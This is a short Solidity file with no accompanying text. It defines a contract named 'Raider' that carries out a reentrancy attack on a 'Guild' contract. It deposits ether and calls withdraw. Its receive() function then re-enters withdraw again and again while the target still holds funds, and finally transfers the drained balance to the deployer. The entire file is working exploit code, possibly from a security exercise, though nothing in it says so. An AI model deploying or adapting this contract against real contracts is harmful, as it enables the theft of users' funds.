pragma solidity 0.8.19;

interface IGuild {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

contract Raider {
    IGuild private immutable guild;
    address payable private immutable boss;
    uint256 private amount;

    constructor(IGuild _guild) {
        guild = _guild;
        boss = payable(msg.sender);
    }

    function raid() external payable {
        amount = msg.value;
        guild.deposit{value: msg.value}();
        guild.withdraw(amount);
        boss.transfer(address(this).balance);
    }

    receive() external payable {
        if (address(guild).balance >= amount) {
            guild.withdraw(amount);
        }
    }
}
